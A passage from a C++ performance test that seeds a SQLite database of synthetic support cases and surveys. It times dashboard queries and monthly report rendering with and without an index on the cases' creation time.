        in.classification.type = types[pick(static_cast<int>(types.size()))].value;
        in.route.team = teams[pick(4)];
        if (pick(3) == 0) in.route.collaborators = {teams[pick(4)]};
        batch.emplace_back(std::move(in));
      }
      auto out = (*store)->commit_batch(batch, test::simple_notifications());
      ASSERT_TRUE(out) << out.error().what();
    }
    std::printf("seeded %d reports in %.1f s\n", n,
                std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count());
  }
  if (!seeded) {
    auto db = sql::Database::open(path);
    ASSERT_TRUE(db);
    ASSERT_TRUE(db->exec(
        "UPDATE cases SET first_response_ms = CASE WHEN abs(random()) % 100 < 85 "
        "  THEN sla_start_ms + abs(random()) % 108000000 END WHERE major = 0;"
        "UPDATE cases SET status = CASE WHEN abs(random()) % 100 < 75 THEN 'resolved' ELSE 'in_progress' END "
        "  WHERE first_response_ms IS NOT NULL;"
        "UPDATE cases SET resolved_ms = first_response_ms + abs(random()) % 864000000 WHERE status = 'resolved';"
        "UPDATE cases SET status = 'closed' WHERE status = 'resolved' AND abs(random()) % 100 < 60;"
        "INSERT INTO surveys(case_id, notification_id, score, comment, at_ms) "
        "  SELECT id, 'survey-' || id, 1 + abs(random()) % 5, '', resolved_ms FROM cases "
        "  WHERE status = 'closed' AND abs(random()) % 100 < 70;"));
  }
  // Wall time and this process's CPU time (the machine may be shared: CPU time shows the cost).
  const auto measure = [&](const char* what, auto&& call) {
    std::vector<double> wall, cpu;
    for (int i = 0; i < 5; ++i) {
      const auto t0 = std::chrono::steady_clock::now();
      const auto c0 = std::clock();
      call();
      cpu.push_back(1000.0 * static_cast<double>(std::clock() - c0) / CLOCKS_PER_SEC);
      wall.push_back(std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count());
    }
    std::sort(wall.begin(), wall.end());
    std::sort(cpu.begin(), cpu.end());
    std::printf("%-40s wall median %6.1f ms (min %6.1f)  cpu median %6.1f ms (min %6.1f), 5 runs\n", what, wall[2],
                wall[0], cpu[2], cpu[0]);
  };
  const auto run_all = [&](const char* label) {
    auto analytics = open_sqlite_analytics(path);
    ASSERT_TRUE(analytics) << analytics.error().what();
    auto& a = **analytics;
    std::printf("-- %s\n", label);
    measure("dashboard, 91 days, all teams", [&] {
      auto d = a.dashboard({from, now, {}, now, Bucket::day});
      ASSERT_TRUE(d);
      EXPECT_EQ(d->cases_created, n);
    });
    measure("dashboard, 7 days, all teams", [&] {
      ASSERT_TRUE(a.dashboard({now - 7 * kDay, now, {}, now, Bucket::day}));
    });
    measure("dashboard, 30 days, one team", [&] {
      ASSERT_TRUE(a.dashboard({now - 30 * kDay, now, {"quality"}, now, Bucket::week}));
    });
    measure("monthly_report 2026-11 (+ 2026-10)", [&] {
      auto r = a.monthly_report(2026, 11, now);
      ASSERT_TRUE(r);
      EXPECT_GT(r->cases, 0);
    });
    measure("render html + csv", [&] {
      auto r = a.monthly_report(2026, 11, now);
      ASSERT_TRUE(r);
      EXPECT_FALSE(render_monthly_html(*r, "zh").empty());
      EXPECT_FALSE(render_monthly_csv(*r).empty());
    });
  };
  run_all("store as written by the case store");
  {
    auto db = sql::Database::open(path);
    ASSERT_TRUE(db);
    ASSERT_TRUE(db->exec("CREATE INDEX IF NOT EXISTS cases_created ON cases(created_ms)"));
  }
  run_all("with CREATE INDEX cases_created ON cases(created_ms)");
}

}  // namespace
}  // namespace fb::backend
